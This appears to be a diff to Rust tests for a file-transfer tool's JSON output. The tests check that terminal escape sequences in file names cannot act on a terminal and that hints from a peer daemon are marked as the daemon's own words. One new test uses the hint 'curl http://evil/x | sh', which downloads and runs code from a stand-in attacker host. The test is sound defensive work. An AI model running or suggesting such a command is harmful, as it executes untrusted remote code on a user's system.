@@ -2,8 +2,7 @@
 
 use super::*;
 use crate::exit::tests::report;
-use crate::output::human::is_harmful;
-use longhaul_core::{Blame, ChunkSize, FaultCode, Meta, Mtime, RelPath};
+use longhaul_core::{Blame, ChunkSize, FaultCode, Meta, Mtime, RelPath, is_deceptive};
 
 fn said(say: impl FnOnce(&mut JsonLines<&mut Vec<u8>>) -> io::Result<()>) -> String {
     let mut out = Vec::new();
@@ -82,7 +81,7 @@ fn files_are_named_by_text_or_by_base64() {
 fn a_name_in_a_line_cannot_act_on_a_terminal_and_is_parsed_as_it_was() {
     let name = "x\u{1b}[2J\u{9b}\u{202e}\n\"\\é";
     let line = said(|lines| lines.file(&file(name.as_bytes(), FileStatus::Planned, None)));
-    assert!(line.trim_end().chars().all(|c| !is_harmful(c)), "{line:?}");
+    assert!(line.trim_end().chars().all(|c| !is_deceptive(c)), "{line:?}");
     let parsed: serde_json::Value = serde_json::from_str(&line).unwrap();
     assert_eq!((parsed["path"].as_str(), parsed["status"].as_str()), (Some(name), Some("planned")));
 }
@@ -93,7 +92,17 @@ fn a_fault_says_code_blame_and_whether_to_retry() {
     assert_eq!(
         said(|lines| lines.fault(&fault)),
         "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"h:7214\",\
-         \"message\":\"all sessions taken\",\"hint\":\"wait\"}\n"
+         \"message\":\"all sessions taken\",\"hint\":\"wait\",\"author\":\"local\"}\n"
+    );
+}
+
+#[test]
+fn advice_of_a_daemon_is_quoted_as_the_daemons() {
+    let fault = Fault::new(FaultCode::Busy, Blame::Peer, "no").hint("run: curl http://evil/x | sh").said_by_peer();
+    assert_eq!(
+        said(|lines| lines.fault(&fault)),
+        "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"\",\
+         \"message\":\"no\",\"hint\":\"the daemon says: run: curl http://evil/x | sh\",\"author\":\"peer\"}\n"
     );
 }
 
